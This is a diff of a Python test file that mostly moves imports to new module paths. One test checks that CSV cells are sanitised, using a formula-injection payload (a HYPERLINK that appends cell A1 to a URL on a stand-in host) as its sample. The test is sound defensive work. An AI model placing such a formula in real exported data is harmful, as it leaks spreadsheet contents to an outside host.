@@ -17,9 +17,9 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from consentry.cli import main
-from consentry.output_guard import OutputGuard, UnsafeOutput
-from consentry.text_safety import markdown_escaped
+from consentry.cli.main import main
+from consentry.records.text_safety import markdown_escaped
+from consentry.store.output_guard import OutputGuard, UnsafeOutput
 
 from .security_case import build_case, cli
 
@@ -219,8 +219,8 @@ def test_csv_cells_never_start_a_formula() -> None:
     import dataclasses
     import io
 
+    from consentry.records.text_safety import spreadsheet_safe
     from consentry.reports import hashpack, notice
-    from consentry.text_safety import spreadsheet_safe
 
     evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
     assert spreadsheet_safe(evil) == "'" + evil
